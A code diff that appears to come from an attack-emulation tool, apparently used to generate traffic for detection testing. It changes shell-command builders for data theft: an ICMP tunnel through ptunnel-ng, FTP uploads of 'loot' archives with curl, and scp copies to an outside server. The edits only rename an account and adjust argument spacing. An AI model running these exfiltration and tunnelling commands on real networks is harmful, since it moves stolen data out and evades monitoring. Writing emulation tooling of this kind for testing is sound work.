@@ -36,7 +36,7 @@ def tunnel_icmp(call: Call) -> list[str]:
     """A TCP connection within echo requests: a page is fetched again and again."""
     drop = call.network.matching("drop")[0]
     return shell(
-        f"ptunnel-ng -p {call.address} -l 8000 -r {call.network.address(drop)} -R 80 &",
+        f"ptunnel-ng -p {call.address} -l 8000 -r{call.network.address(drop)} -R80 &",
         "sleep 1",
         f"for i in $(seq 1 {call.option('pages', 20)}); do",
         "curl -s -m 8 -o /dev/null http://127.0.0.1:8000/page$((i % 40)).html",
@@ -102,7 +102,7 @@ def steal_pieces(call: Call) -> list[str]:
 @THEFT.add(lambda call: [Touch(call.address, ANY, TCP)], "ftp", tool="FTP upload", seconds=90)
 def steal_ftp(call: Call) -> list[str]:
     """Archives by FTP to a server outside."""
-    login = f"backup:{PEOPLE['backup']}"
+    login = f"keeper:{PEOPLE['keeper']}"
     return shell(
         f"for i in $(seq 1 {call.option('files', 3)}); do",
         f"curl -s -u '{login}' --limit-rate {call.option('rate', '1M')} -T {_loot(call)} "
@@ -115,4 +115,4 @@ def steal_ftp(call: Call) -> list[str]:
 @THEFT.add(of_port(22), "ssh", tool="scp to outside", seconds=90)
 def steal_scp(call: Call) -> list[str]:
     """An archive by SSH to a server outside."""
-    return scp("backup", _loot(call), f"backup@{call.address}:archive")
+    return scp("keeper", _loot(call), f"keeper@{call.address}:archive")
